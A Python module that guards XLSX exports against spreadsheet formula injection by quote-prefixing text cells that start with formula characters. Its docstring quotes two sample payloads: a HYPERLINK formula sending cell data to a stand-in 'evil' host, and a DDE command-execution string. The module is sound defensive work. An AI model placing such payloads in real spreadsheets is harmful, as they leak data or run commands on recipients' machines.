"""Spreadsheet cells that hold text from people: never a formula, in every XLSX we write.

A client named `=HYPERLINK("http://evil/?"&A1)` or a fault `=cmd|' /C calc'!A0` must open in
Excel or LibreOffice as the text it is. openpyxl stores a string starting with `=` as a formula;
a text cell with the quote prefix (what Excel writes for a typed `'=1+1`) stays text even when
someone edits the cell and presses Enter. The other starts (`+ - @`, tab, CR) are what
spreadsheets turn into formulas when text is typed or pasted, so they get the prefix too.
Numbers, dates and empty cells are left as they are.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell.cell import Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    """True for text a spreadsheet could take for a formula."""
    return text.startswith(FORMULA_STARTS)


def keep_as_text(cell: Cell) -> Cell:
    """Make a cell (a write-only one too) holding formula-like text plain text; return it."""
    value: Any = cell.value
    if isinstance(value, str) and is_formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell
